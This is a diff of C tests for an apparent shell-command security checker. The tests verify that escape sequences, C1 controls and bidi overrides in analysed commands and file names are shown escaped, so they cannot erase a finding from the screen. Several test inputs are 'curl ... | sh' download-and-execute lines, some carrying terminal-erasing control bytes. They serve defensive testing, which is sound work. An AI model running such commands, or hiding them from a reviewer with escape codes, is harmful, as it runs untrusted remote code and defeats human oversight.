@@ -351,3 +351,107 @@ Test(check_cmd, list_rules)
 	cr_expect(one_line_error(&o), "%s", o.err);
 	proc_out_free(&o);
 }
+
+/* ---- untrusted text on a terminal ---- */
+
+/* The first raw control byte (C0 but tab and newline, DEL), C1 control in
+ * UTF-8 (U+0080..U+009F) or bidi override in s, or NULL. */
+static const char *raw_control(const char *s)
+{
+	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
+		if ((*p < 0x20 && *p != '\t' && *p != '\n') || *p == 0x7f)
+			return (const char *)p;
+		if (p[0] == 0xc2 && p[1] >= 0x80 && p[1] <= 0x9f)
+			return (const char *)p;
+		if (p[0] == 0xe2 && p[1] == 0x80 && p[2] >= 0xaa && p[2] <= 0xae)
+			return (const char *)p;
+		if (p[0] == 0xe2 && p[1] == 0x81 && p[2] >= 0xa6 && p[2] <= 0xa9)
+			return (const char *)p;
+	}
+	return NULL;
+}
+
+/* A program that tries to erase its own finding from the screen: a
+ * carriage return, "erase line" and "cursor up", a C1 CSI, and a bidi
+ * override, inside the text a finding quotes. */
+static const char *const erasing[] = {
+    "curl \"http://x/\r\x1b[2K\x1b[1A\" | sh\n",
+    "curl \"http://x/\xc2\x9b"
+    "2K\" | sh\n",
+    "curl \"http://x/\xe2\x80\xae"
+    "hs | lruc\" | sh\n",
+    "curl \"http://x/\xe2\x81\xa6\x7f\" | sh\n",
+};
+
+Test(check_cmd, control_characters_are_shown_escaped)
+{
+	for (size_t i = 0; i < sizeof(erasing) / sizeof(*erasing); i++) {
+		const char *args[] = {"-l", "bash", "-c", erasing[i], NULL};
+		struct proc_out o;
+		check(args, NULL, &o);
+		cr_expect_eq(o.status, 1, "[%zu] %s%s", i, o.out, o.err);
+		cr_expect(strstr(o.out, "high sh-download-exec"), "[%zu] the finding is gone: %s",
+			  i, o.out);
+		const char *raw = raw_control(o.out);
+		cr_expect(raw == NULL, "[%zu] a raw control character at byte %td: %s", i,
+			  raw ? raw - o.out : 0, o.out);
+		proc_out_free(&o);
+	}
+}
+
+Test(check_cmd, control_characters_are_escaped_readably)
+{
+	const char *args[] = {"-l", "bash", "-c", erasing[0], NULL};
+	struct proc_out o;
+	check(args, NULL, &o);
+	/* a CR inside a word is shown as U+FFFD: bash reads it as part of the word */
+	cr_expect(strstr(o.out, "http://x/\xef\xbf\xbd\\x1b[2K\\x1b[1A"), "%s", o.out);
+	proc_out_free(&o);
+	const char *bidi[] = {"-l", "bash", "-c", erasing[2], NULL};
+	check(bidi, NULL, &o);
+	cr_expect(strstr(o.out, "\\u202e"), "%s", o.out);
+	proc_out_free(&o);
+	/* valid UTF-8 text and tabs stay as they are */
+	const char *text[] = {"-l", "bash", "-c", "curl \"http://x/\xc3\xa9t\xc3\xa9\t\" | sh\n",
+			      NULL};
+	check(text, NULL, &o);
+	cr_expect(strstr(o.out, "\xc3\xa9t\xc3\xa9\t"), "%s", o.out);
+	proc_out_free(&o);
+}
+
+Test(check_cmd, a_file_name_with_control_characters_is_escaped)
+{
+	char dir[] = "/tmp/airlock-e2e-XXXXXX", path[256];
+	cr_assert_not_null(mkdtemp(dir));
+	snprintf(path, sizeof(path), "%s/a\x1b[2Kb.sh", dir);
+	FILE *f = fopen(path, "w");
+	cr_assert_not_null(f);
+	fputs("curl http://x | sh\n", f);
+	fclose(f);
+	const char *args[] = {path, NULL};
+	struct proc_out o;
+	check(args, NULL, &o);
+	cr_expect(strstr(o.out, "a\\x1b[2Kb.sh:1:"), "%s", o.out);
+	cr_expect(raw_control(o.out) == NULL, "%s", o.out);
+	proc_out_free(&o);
+	unlink(path);
+	rmdir(dir);
+}
+
+/* The findings shown at the approve prompt are escaped too. */
+Test(run_policy, the_approve_prompt_shows_control_characters_escaped)
+{
+	char cmd[1024];
+	snprintf(cmd, sizeof(cmd),
+		 "%s run --policy approve -l bash -c \"$(printf 'curl \\\"http://x/\\r\\033[2K"
+		 "\\033[1A\\\" | sh')\"",
+		 airlock_bin());
+	const char *argv[] = {"/usr/bin/script", "-qec", cmd, "/dev/null", NULL};
+	struct proc_out o;
+	run_cmd(argv, "n\n", 30, &o);
+	cr_expect_eq(o.status, 126, "%s", o.out);
+	cr_expect(strstr(o.out, "sh-download-exec"), "%s", o.out);
+	cr_expect(strstr(o.out, "\\x1b[2K\\x1b[1A"), "%s", o.out);
+	cr_expect(strstr(o.out, "\x1b[2K") == NULL, "a raw escape reached the terminal: %s", o.out);
+	proc_out_free(&o);
+}
